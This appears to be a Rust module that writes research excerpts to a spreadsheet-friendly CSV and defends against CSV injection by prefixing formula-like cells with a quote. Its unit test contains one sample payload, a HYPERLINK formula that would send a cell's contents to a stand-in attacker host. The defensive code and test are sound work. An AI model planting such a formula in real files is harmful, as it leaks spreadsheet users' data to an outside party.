//! CSV for spreadsheets: UTF-8 with a byte-order mark (so Excel reads Arabic), RFC 4180
//! quoting and CRLF line ends, one row per passage.
//!
//! A cell a spreadsheet would evaluate as a formula (starting with `=`, `+`, `-`, `@`, a tab or a
//! carriage return) is written with a leading `'`, as OWASP recommends against CSV injection: a
//! brief's title taken from a hostile document must not become a live formula.

use std::borrow::Cow;

use super::{Excerpt, links_text};
use crate::i18n::Locale;
use crate::tr;

/// The column headers, in `loc`'s language.
pub(super) fn header(loc: Locale) -> [String; 12] {
    [
        tr!(loc, "export-csv-brief"),
        tr!(loc, "export-csv-brief-date"),
        tr!(loc, "export-csv-quote"),
        tr!(loc, "export-csv-tags"),
        tr!(loc, "export-csv-determinants"),
        tr!(loc, "export-csv-scenarios"),
        tr!(loc, "export-csv-memo"),
        tr!(loc, "export-csv-start"),
        tr!(loc, "export-csv-end"),
        tr!(loc, "export-csv-passage-id"),
        tr!(loc, "export-csv-created"),
        tr!(loc, "export-csv-grade"),
    ]
}

pub(super) fn render(rows: &[Excerpt<'_>], loc: Locale) -> Vec<u8> {
    let mut out = "\u{feff}".as_bytes().to_vec();
    {
        let mut writer = csv::WriterBuilder::new()
            .terminator(csv::Terminator::CRLF)
            .quote_style(csv::QuoteStyle::Necessary)
            .from_writer(&mut out);
        // Writing into a Vec cannot fail.
        let _ = writer.write_record(header(loc));
        for row in rows {
            let p = row.passage;
            let _ = writer.write_record(
                [
                    row.brief_title.as_str(),
                    row.brief_date.as_str(),
                    p.anchor.quote.as_str(),
                    row.tags.join("; ").as_str(),
                    links_text(&row.determinants, loc).as_str(),
                    links_text(&row.scenarios, loc).as_str(),
                    p.memo.as_str(),
                    p.anchor.start.to_string().as_str(),
                    p.anchor.end.to_string().as_str(),
                    p.id.to_string().as_str(),
                    p.created.to_rfc3339().as_str(),
                    row.grade.as_str(),
                ]
                .map(neutralise)
                .iter()
                .map(|cell| cell.as_bytes()),
            );
        }
        let _ = writer.flush();
    }
    out
}

/// The cell as a spreadsheet shows it without evaluating it: a leading `'` before a formula.
fn neutralise(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cells_a_spreadsheet_would_evaluate_get_a_leading_quote() {
        let hostile = r#"=HYPERLINK("http://evil.example/?leak="&A1,"Open source")"#;
        assert_eq!(neutralise(hostile), format!("'{hostile}"));
        for cell in ["+1", "-2", "@SUM(A1)", "\tx", "\rx"] {
            assert_eq!(neutralise(cell), format!("'{cell}"), "{cell:?}");
        }
        for cell in ["plain", "قال =1", "", "'already", "1-2"] {
            assert_eq!(neutralise(cell), cell, "{cell:?}");
        }
    }
}
